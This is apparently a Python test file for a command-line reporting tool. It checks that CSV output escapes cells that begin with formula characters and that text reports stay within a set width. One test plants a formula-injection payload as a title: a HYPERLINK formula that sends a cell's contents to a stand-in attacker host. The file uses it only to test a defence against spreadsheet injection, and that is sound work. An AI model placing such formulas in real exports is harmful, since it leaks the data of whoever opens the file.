"""Output that cannot be misread or misused: CSV a spreadsheet cannot run, text that fits its width."""
import csv
import io
import os
import shutil

from cli_tests import copy_sample, run, snapshot_tree


def with_title(title):
    """A copy of the sample whose initial-decisions indicator has the given title."""
    data = copy_sample()
    path = os.path.join(data, "indicators.yaml")
    with open(path, encoding="utf-8") as f:
        text = f.read()
    old = 'title: "Initial decisions made within 24 hours"'
    assert old in text
    with open(path, "w", encoding="utf-8") as f:
        f.write(text.replace(old, "title: '" + title.replace("'", "''") + "'"))
    return data


def test_csv_cells_cannot_run_as_formulas(binary):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    data = with_title(title)
    try:
        before = snapshot_tree(data)
        code, out, err = run(binary, "report", data, "--format", "csv")
        assert code == 0, err
        assert snapshot_tree(data) == before, "the data directory is only read"
        rows = list(csv.reader(io.StringIO(out, newline="")))
        header = rows[0]
        row = next(r for r in rows if r[2] == "initial-decisions")
        assert row[header.index("title")] == "'" + title, row
        assert row[header.index("value")] == "81.2", "numbers stay numbers"
        for r in rows[1:]:
            for cell in r:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number may begin so
        # The text report shows the title as it is written.
        code, out, err = run(binary, "report", data, "--width", "200")
        assert code == 0 and title in out, err
    finally:
        shutil.rmtree(os.path.dirname(data))


def test_text_report_fits_its_width(binary):
    data = copy_sample()
    try:
        for args, width in (((), 100), (("--width", "72"), 72)):
            code, out, err = run(binary, "report", data, *args)
            assert code == 0, err
            long = [line for line in out.splitlines() if len(line) > width]
            assert not long, long
            assert "up, worse" in out and "declined" not in out, out[:600]
            assert "(tolerance" in out and " below)" not in out
        code, _, err = run(binary, "report", data, "--width", "20")
        assert code == 64 and "--width" in err, (code, err)
    finally:
        shutil.rmtree(os.path.dirname(data))
